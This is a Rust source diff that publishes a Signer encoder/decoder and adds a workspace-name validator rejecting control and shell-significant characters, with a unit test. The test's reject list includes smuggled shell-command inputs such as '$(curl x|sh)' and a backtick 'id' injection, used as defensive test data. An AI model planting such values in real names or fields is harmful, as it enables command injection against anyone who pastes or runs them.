@@ -101,14 +101,16 @@ pub enum Signer {
 }
 
 impl Signer {
-    pub(crate) fn encode(&self, w: &mut Writer) {
+    /// Appends the 17-byte encoding (§10.2), shared with key shares (§11.1).
+    pub fn encode(&self, w: &mut Writer) {
         match self {
             Signer::Member(id) => w.u8(1).array(id.as_bytes()),
             Signer::RecoveryAuthority(id) => w.u8(2).array(id.as_bytes()),
         };
     }
 
-    pub(crate) fn decode(r: &mut Reader<'_>) -> Result<Self, DecodeError> {
+    /// Reads the encoding written by [`Signer::encode`].
+    pub fn decode(r: &mut Reader<'_>) -> Result<Self, DecodeError> {
         let tag = r.u8()?;
         let id = r.uuid()?;
         match tag {
@@ -120,6 +122,24 @@ impl Signer {
             }),
         }
     }
+}
+
+/// Checks a new workspace's name: 1 to 100 characters after trimming, none of them a control
+/// character or one a shell gives meaning inside double quotes (`$`, `` ` ``, `"`, `\`), so a
+/// name can be shown anywhere, and pasted anywhere, without doing anything. Commands in mail
+/// name workspaces by id; this is the second line. Returns the trimmed name.
+pub fn check_workspace_name(name: &str) -> Result<&str, &'static str> {
+    let name = name.trim();
+    if name.is_empty() || name.chars().count() > 100 {
+        return Err("a workspace name has 1 to 100 characters");
+    }
+    if name
+        .chars()
+        .any(|c| c.is_control() || matches!(c, '$' | '`' | '"' | '\\'))
+    {
+        return Err("a workspace name cannot contain control characters, $, `, \" or \\");
+    }
+    Ok(name)
 }
 
 /// Whether a recovery key is the emailed temporary one or a permanent one.
@@ -447,3 +467,30 @@ mod state;
 mod wire;
 
 pub use state::{SignerAuthority, SignerError};
+
+#[cfg(test)]
+mod tests {
+    use super::check_workspace_name;
+
+    #[test]
+    fn workspace_names_that_do_something_in_a_shell_are_refused() {
+        assert_eq!(
+            check_workspace_name("  R&D (EU) / Ops #2 "),
+            Ok("R&D (EU) / Ops #2")
+        );
+        assert_eq!(check_workspace_name("Müller & Söhne"), Ok("Müller & Söhne"));
+        for bad in [
+            "IT Dept $(curl x|sh)",
+            "a`id`",
+            "say \"hi\"",
+            "back\\slash",
+            "line\nbreak",
+            "",
+            "   ",
+        ] {
+            assert!(check_workspace_name(bad).is_err(), "{bad:?}");
+        }
+        assert!(check_workspace_name(&"x".repeat(101)).is_err());
+        assert!(check_workspace_name(&"x".repeat(100)).is_ok());
+    }
+}
